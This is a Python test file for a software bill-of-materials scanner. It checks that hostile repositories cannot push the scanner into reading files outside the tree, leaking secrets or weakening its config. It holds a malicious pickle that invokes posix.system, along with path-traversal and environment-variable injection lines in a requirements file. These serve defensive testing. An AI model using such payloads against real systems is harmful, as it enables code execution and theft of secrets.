"""F5/F6/F7: a hostile repository (includes out of the tree, environment-variable tricks, a
weakening `.aibom.toml`) must not read files outside the scanned roots, must not leak the
environment or those files into any output, and must not weaken its own scan unseen."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from aibom.commands import scan as scan_command
from aibom.config import Config, ScanRequest, TreeEffect, build_config
from aibom.scan import scan

ENV_CANARY = "CANARYENV7e1f"
FILE_CANARY = "CANARYFILE9b2c"
TOKEN = "Zq8TkW2mLp4RvX9sNc3BdF7hJ"  # a literal token in an index URL path

# protocol 2: PROTO, GLOBAL posix system, the argument, TUPLE1, REDUCE, STOP (never loaded)
EVIL_PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."


def hostile_repo(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(
        f"aws_secret_access_key = {FILE_CANARY}\nmachine host login u password {FILE_CANARY}\n"
    )
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text(
        f"-r {outside / 'secret.txt'}\n"
        "-r ../outside/secret.txt\n"
        "-c file:../outside/secret.txt\n"
        "-r ${HOME}/secret.txt\n"
        "${AIBOM_CANARY}==1.0\n"
        "requests==2.31.0 --hash=sha256:${AIBOM_CANARY}\n"
        "--trusted-host ${AIBOM_CANARY}\n"
        "--extra-index-url https://pkgs.example.com/${AIBOM_CANARY}/simple\n"
        f"--extra-index-url https://pkgs.example.com/{TOKEN}/simple\n"
        "numpy==1.26.4\n"
    )
    (repo / "setup.cfg").write_text(
        "[metadata]\nname = hostile\n\n[options]\ninstall_requires = file: ../outside/secret.txt\n"
    )
    (repo / "environment.yml").write_text(
        "name: x\ndependencies:\n  - pip:\n    - -r ../outside/secret.txt\n"
    )
    (repo / ".aibom.toml").write_text(
        'safe-globals = ["posix.system"]\n'
        'exclude = ["hidden/*"]\n'
        'disable = ["AIB910"]\n'
        'fail-on = "critical"\n'
        "online = true\n"
        'index-url = "http://127.0.0.1:9/simple"\n'
        f'cache-dir = "{tmp_path / "cache"}"\n'
        f'vuln-db = "{outside}"\n'
        "max-decompressed-bytes = 1099511627776\n"
        '[severity]\nAIB201 = "info"\nAIB911 = "info"\n'
    )
    (repo / "model.pkl").write_bytes(EVIL_PICKLE)
    (repo / "hidden").mkdir()
    (repo / "hidden" / "other.pkl").write_bytes(EVIL_PICKLE)
    return repo


def test_tree_config_is_judged_not_trusted(tmp_path: Path) -> None:
    repo = hostile_repo(tmp_path)
    config = build_config(ScanRequest(paths=(repo,)))
    assert config.online is False
    assert config.index_url == Config().index_url
    # the cache folder comes from the environment (tests/conftest.py sets one), never the tree
    assert config.cache_dir != tmp_path / "cache" and config.vuln_db is None
    assert config.max_decompressed_bytes == Config().max_decompressed_bytes
    assert "AIB910" not in config.disabled_rules
    notes = {(s.key, s.effect) for s in config.tree_settings}
    assert {
        ("safe-globals", TreeEffect.WEAKENS),
        ("exclude", TreeEffect.WEAKENS),
        ("fail-on", TreeEffect.WEAKENS),
        ("severity.AIB201", TreeEffect.WEAKENS),
        ("severity.AIB911", TreeEffect.IGNORED),
        ("disable", TreeEffect.IGNORED),
        ("online", TreeEffect.IGNORED),
        ("index-url", TreeEffect.IGNORED),
        ("cache-dir", TreeEffect.IGNORED),
        ("vuln-db", TreeEffect.IGNORED),
        ("max-decompressed-bytes", TreeEffect.IGNORED),
    } <= notes


def test_users_own_config_file_is_trusted(tmp_path: Path) -> None:
    own = tmp_path / "mine.toml"
    own.write_text('online = true\nexclude = ["x/*"]\n')
    config = build_config(ScanRequest(paths=(tmp_path,), config_file=own))
    assert config.online is True
    assert config.tree_settings == ()


def test_safe_globals_never_allow_a_dangerous_name(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(EVIL_PICKLE)
    result = scan(Config(roots=(tmp_path,), safe_globals=frozenset({"posix.system"})))
    assert [f.rule_id for f in result.findings if f.rule_id == "AIB201"] == ["AIB201"]


def test_hostile_repository_leaks_nothing_and_passes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = hostile_repo(tmp_path)
    monkeypatch.setenv("AIBOM_CANARY", ENV_CANARY)
    monkeypatch.setenv("HOME", str(tmp_path / "outside"))

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the scan made a network request")

    import httpx

    monkeypatch.setattr(httpx.Client, "send", no_network)
    out = tmp_path / "out"
    out.mkdir()
    outputs: dict[str, Path] = {}
    codes = []
    for fmt in ("text", "json", "sarif"):
        outputs[fmt] = out / f"report.{fmt}"
        codes.append(
            scan_command.run(
                ScanRequest(
                    paths=(repo,),
                    output=out / f"aibom-{fmt}.json",
                    report=outputs[fmt],
                    report_format=fmt,
                    quiet=True,
                )
            )
        )
    scan_command.run(
        ScanRequest(paths=(repo,), output=out / "aibom.xml", write_baseline=out / "b.json")
    )
    captured = capsys.readouterr()
    texts = [p.read_text() for p in out.iterdir()] + [captured.out, captured.err]
    for text in texts:
        assert ENV_CANARY not in text
        assert FILE_CANARY not in text
        assert TOKEN not in text
        assert "aws_secret_access_key" not in text
    assert codes and all(code != 0 for code in codes)  # nothing passes
    report = json.loads(outputs["json"].read_text())
    rules = [f["rule"] for f in report["findings"]]
    assert "AIB201" in rules  # posix.system is still critical despite safe-globals
    assert {"AIB910", "AIB911"} <= set(rules)
    reasons = " ".join(f["message"] for f in report["findings"] if f["rule"] == "AIB901")
    assert "points outside the scanned folders" in reasons
    assert "environment variable" in reasons
    bom = json.loads((out / "aibom-json.json").read_text())
    assert {"AIB910", "AIB911"} <= {v["id"] for v in bom.get("vulnerabilities", [])}


def test_include_through_a_symlink_out_of_the_tree_is_not_read(tmp_path: Path) -> None:
    from aibom.sources.requirements import parse_requirements_file

    outside = tmp_path / "outside.txt"
    outside.write_text(f"{FILE_CANARY}==1\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "link.txt").symlink_to(outside)
    (repo / "inner.txt").write_text("six==1.16.0\n")
    (repo / "requirements.txt").write_text("-r link.txt\n-r inner.txt\n")
    got = parse_requirements_file(repo / "requirements.txt", "requirements.txt", roots=(repo,))
    assert [d.name for d in got.dependencies] == ["six"]
    assert FILE_CANARY not in repr(got)
    assert [e.reason for e in got.errors] == [
        "--requirement link.txt points outside the scanned folders; not read"
    ]


def test_token_in_an_index_url_path_is_redacted() -> None:
    from aibom.redact import redact_url

    assert redact_url(f"https://pkgs.example.com/{TOKEN}/simple") == (
        "https://pkgs.example.com/***/simple",
        True,
    )
    digest = "0123456789abcdef" * 4
    kept = f"https://files.example.com/packages/{digest}/pkg-1.0-py3-none-any.whl"
    assert redact_url(kept) == (kept, False)
